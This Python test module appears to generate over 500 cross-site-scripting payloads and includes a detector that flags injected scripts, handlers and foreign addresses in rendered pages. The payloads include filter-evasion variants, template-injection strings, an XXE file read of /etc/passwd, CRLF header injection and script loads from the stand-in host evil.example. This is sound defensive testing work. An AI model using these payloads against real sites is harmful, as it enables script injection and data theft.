"""Strings that would run as a script wherever a page shows one unguarded, and what a page shows if one did.

Five hundred and more: every way out of where a text may stand, with every thing that runs, and some written so that a
filter would not know them.
"""

import re
from typing import Any

from lxml import etree, html

# Out of a text, an attribute, an element whose content is text, a comment, a script, an address.
OUT = ("", '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>",
       '\\">', "&quot;>", "'-/*", "<!--><", "</noscript>", "\u2028>", "<<", "</a>", "%22%3E")  # fmt: skip
RUNS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>", "<x onclick=alert(1)>x</x>",
)  # fmt: skip
# With nothing but what breaks out of an attribute or a script, of a template, an address, or of what filters look for.
ODD = (
    '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", " onmouseover=alert(1) ", "';alert(1)//", '";alert(1)//',
    "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "{% debug %}",
    "{{ request.user }}", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞", "<scr<script>ipt>alert(1)</script>", "<script\n>alert(1)</script\n>", "<!--<script>",
    "[x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "=HYPERLINK(\"//evil.example\")", "<?php alert(1) ?>",
    "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "\r\nSet-Cookie: a=b",
    "\r\n\r\n<script>alert(1)</script>", "</script><script>alert(1)//", "\u202e<script>alert(1)</script>",
)  # fmt: skip
STRINGS = [out + runs for out in OUT for runs in RUNS] + list(ODD)
assert len(set(STRINGS)) == len(STRINGS) >= 500

# What no page of ours has, whatever people wrote.
NEVER = {"object", "embed", "base", "math", "marquee", "video", "source", "x", "mi", "applet"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "poster", "cite", "background"}
RUNNING = re.compile(r"^[\x00-\x20]*(java\s*script|vbscript|data\s*:\s*text/html)", re.IGNORECASE)
AWAY = "evil.example"


def ran(page: str) -> list[str]:
    """What in a page would run, or lead away, that is not the page's own."""
    found = []
    tree = html.document_fromstring(page.encode("utf-8", "replace"), parser=html.HTMLParser(encoding="utf-8"))
    for one in tree.iter(etree.Element):
        name, told = str(one.tag), dict(one.attrib)
        inline = name == "script" and not str(told.get("src", "")).startswith(("/static/", "/")) and not is_data(told)
        refresh = name == "meta" and "http-equiv" in told
        # A frame of ours shows what is shown elsewhere.
        frame = name == "iframe" and ("srcdoc" in told or not str(told.get("src", "")).startswith("/embed/"))
        if (
            name in NEVER
            or name == "style"
            or inline
            or refresh
            or frame
            or any(leads(key, str(value)) for key, value in told.items())
        ):
            found.append(str(etree.tostring(one, encoding="unicode"))[:200])
    return found


def is_data(told: dict[Any, Any]) -> bool:
    """A script that is none: facts for machines, or for the page's own scripts."""
    return told.get("type") in ("application/json", "application/ld+json")


def leads(name: str, value: str) -> bool:
    if name.lower().startswith("on"):
        return True
    if name.lower() not in ADDRESSES:
        return False
    return bool(RUNNING.match(value)) or value.strip().lower().startswith((f"//{AWAY}", f"\\\\{AWAY}"))
